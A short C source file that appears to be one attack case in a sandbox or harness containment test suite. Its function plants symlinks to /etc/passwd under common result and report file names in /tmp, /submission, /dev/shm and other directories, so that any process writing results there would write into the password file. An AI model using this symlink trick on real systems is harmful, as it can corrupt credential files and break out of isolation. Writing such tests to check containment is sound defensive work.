/*
 * results_symlink - somebody will write there
 *
 * Attack: [50] plants links and files under every name that a result may have
 * Exercise: 05_uts
 * Expect: zero; still in the host
 * Seconds: 20
 */
#include <stdio.h>
#include <unistd.h>

#include "join.h"

int
uts_join(pid_t pid)
{
	static const char *const names[] = {
		"journal.jsonl", "results.json", "report.json",
		"report.txt",    "main",         "nobody",
		"host",          "log",          "results/results.json"
	};
	static const char *const dirs[] = { "/tmp",     ".",
					    "..",       "/submission",
					    "/var/tmp", "/dev/shm" };
	char path[96];
	size_t i, j;

	(void)pid;
	for (i = 0; i < sizeof dirs / sizeof *dirs; i++)
		for (j = 0; j < sizeof names / sizeof *names; j++) {
			snprintf(path, sizeof path, "%s/%s", dirs[i], names[j]);
			if (symlink("/etc/passwd", path) == -1)
				continue;
		}
	return 0;
}
